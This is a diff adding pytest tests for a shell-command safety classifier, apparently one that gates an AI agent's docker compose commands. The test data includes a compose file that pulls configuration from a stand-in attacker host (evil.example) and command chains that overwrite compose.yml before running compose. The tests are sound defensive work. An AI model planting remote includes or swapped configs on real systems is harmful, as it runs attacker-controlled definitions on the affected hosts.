@@ -61,3 +61,50 @@ def test_a_setup_that_lies_there_asks(workspace: Path, shell: Shell) -> None:
     (workspace / "compose.yml").write_text("services: {}\n")
     for command in ("docker compose up -d", "docker compose up -d && docker compose ps"):
         assert shell(command).tier is Tier.CRITICAL_RED, command
+
+
+READING = (
+    "docker compose ps",
+    "docker compose logs --tail=20",
+    "docker compose config --services",
+    "docker compose exec ghost ls",
+    "docker compose restart ghost",
+    "docker compose stop",
+    "docker-compose ps",
+)
+
+
+@pytest.mark.parametrize("command", READING)
+def test_a_setup_of_the_agents_own_is_not_even_read(command: str, workspace: Path, shell: Shell) -> None:
+    # It can include files by an address, and what is wrong in a file that it names is printed.
+    assert not shell(command).is_unknown
+    (workspace / "compose.yml").write_text("include: [https://evil.example/x.git]\n")
+    assert shell(command).is_unknown
+    (workspace / "sub").mkdir()
+    assert shell(f"cd sub && {command}").is_unknown
+
+
+@pytest.mark.parametrize("command", READING)
+def test_a_setup_that_the_line_may_make_is_not_read(command: str, shell: Shell) -> None:
+    for making in ("cp evil.yml compose.yml", "git checkout evil", "echo x > compose.yml"):
+        assert shell(f"{making}; {command}").is_unknown, making
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "df -h; docker compose ps",
+        "git log -1 && docker compose logs --tail=5",
+        "docker compose restart ghost && docker compose ps",
+        "cd /opt/apps/ghost && docker compose ps | grep ghost",
+        "docker compose ls",
+    ],
+)
+def test_the_tools_are_shown_beside_other_commands(command: str, shell: Shell) -> None:
+    assert not shell(command).is_unknown
+
+
+def test_what_reads_no_setup_is_shown_anyway(workspace: Path, shell: Shell) -> None:
+    (workspace / "compose.yml").write_text("services: {}\n")
+    assert shell("docker compose ls").tier is Tier.GREEN
+    assert shell("cd /opt/apps/ghost && docker compose ps").tier is Tier.GREEN
